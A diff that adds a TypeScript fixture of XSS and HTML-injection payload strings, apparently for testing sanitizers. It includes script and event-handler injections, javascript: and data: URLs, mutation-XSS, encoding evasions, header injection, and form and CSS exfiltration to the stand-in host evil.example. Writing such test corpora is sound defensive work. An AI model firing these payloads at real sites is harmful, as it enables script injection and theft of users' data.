@@ -1,0 +1,75 @@
+/**
+ * Texts that would run a script, load something or change a form if a page took them for markup,
+ * by what they try. Those that run call `alert`; those that load or send name `evil.example`.
+ */
+export const STRINGS: Readonly<Record<string, string>> = {
+  'a script': '<script>alert(1)</script>',
+  'a script in odd letters, with spaces': '<ScRiPt\n>alert(1)</sCrIpT\t>',
+  'a script that does not end': '<script>alert(1)//',
+  'a script of another origin': '<script/src=//evil.example/x.js></script>',
+  'a script in halves, for filters': '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  'a module': '<script type=module>alert(1)</script>',
+  'a handler after "': '" onfocus="alert(1)" autofocus="" tabindex="0',
+  "a handler after '": "' onfocus='alert(1)' autofocus='' tabindex='0",
+  'a handler after a space': 'x onfocus=alert(1) autofocus tabindex=0 x',
+  'a handler after a backtick': '` onfocus=alert(1) autofocus tabindex=0 x=`',
+  'a picture after "': '"><img src=x onerror=alert(1)>',
+  "a picture after '": "'><img src=x onerror=alert(1)>",
+  'a picture with slashes': '<img/src=x/onerror=alert(1)//>',
+  'a handler in character references': '<img src=x onerror=&#97;lert&lpar;1&rpar;>',
+  svg: '<svg/onload=alert(1)>',
+  'svg with a script in character references': '<svg><script>&#97;lert&#40;1)</script></svg>',
+  'svg animated': '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+  'svg that uses another':
+    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
+  math: '<math href="javascript:alert(1)"><mtext>x</mtext></math>',
+  'a frame': '<iframe src="javascript:parent.alert(1)"></iframe>',
+  'a frame with srcdoc': '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
+  'a frame with srcdoc, written twice over': "<iframe srcdoc='&lt;img src=x onerror=alert(1)&gt;'>",
+  'an object': "<object data='data:text/html,<script>alert(1)</script>'></object>",
+  'something embedded': '<embed src=//evil.example/x.swf allowscriptaccess=always>',
+  'another base': '<base href="https://evil.example/" target=_top>',
+  'a refresh': '<meta http-equiv=refresh content="0;url=https://evil.example/">',
+  'a style sheet': '<link rel=stylesheet href=//evil.example/x.css>',
+  'rules that import': '<style>@import"//evil.example/x.css";</style>',
+  'rules that read fields': '<style>input[value^=a]{background:url(//evil.example/?a)}</style>',
+  'a style with an expression':
+    '" style="background:url(//evil.example/x);width:expression(alert(1));-moz-binding:url(x)',
+  'javascript:': 'javascript:alert(1)',
+  'javascript: in odd letters': ' JaVaScRiPt:alert(1)',
+  'javascript: with tabs and ends of lines': 'java\tscr\nipt\r\n:alert(1)',
+  'javascript: after a control character': '\u0001\u001fjavascript:alert(1)',
+  'javascript: in character references': '&#106;avascript&colon;alert&lpar;1)',
+  'javascript: like a web address': 'javascript://rp.example/%0Aalert(1)',
+  'data:': 'DaTa:text/html,<script>alert(1)</script>',
+  'data: in base64': 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
+  'an address without a scheme': '//evil.example/"onclick="alert(1)',
+  'a template with a shadow':
+    '<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>',
+  'changed when read again, noscript':
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  'changed when read again, math':
+    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=alert(1)>">',
+  'changed when read again, svg': '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
+  'the end of a title': '</title><script>alert(1)</script>',
+  'the end of a text field': '</textarea><script>alert(1)</script>',
+  'the end of a style': '</style><script>alert(1)</script>',
+  'the end of a script': '\\";alert(1);//</script><script>alert(1)</script>',
+  'the end of a comment': '--!><script>alert(1)</script>-->',
+  'the end of CDATA': '<![CDATA[<]]><script>alert(1)</script>',
+  'the beginning of a comment': '<!-- ',
+  'the end of all markup': '<plaintext>',
+  'another form': '</form><form action=https://evil.example/><button>Sign in</button>',
+  'another target of the form': '"><input type=image formaction=//evil.example/ src=x name="',
+  'dangling markup': '"><img src=\'https://evil.example/?',
+  'reversed, with invisible characters':
+    '\u202e\u200b<script>alert(1)</script>\u202c<\u200bimg src=x>\u2066\ufeff',
+  'UTF-7 and overlong UTF-8':
+    '+ADw-script+AD4-alert(1)+ADw-/script+AD4- %C0%BCscript%C0%BEalert(1)',
+  'half characters and NUL': '\ud83d<scr\0ipt>alert(1)</script>\ude00<img\0src=x onerror=alert(1)>',
+  'wide forms of < and >':
+    '＜script＞alert(1)＜/script＞ ＂onfocus=＂alert(1)＂autofocus ﹤svg onload=alert(1)﹥',
+  'a line of a header': '%0d%0aX: y\r\nContent-Security-Policy: x\r\n\r\n<script>alert(1)</script>',
+  'all at once':
+    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
+};
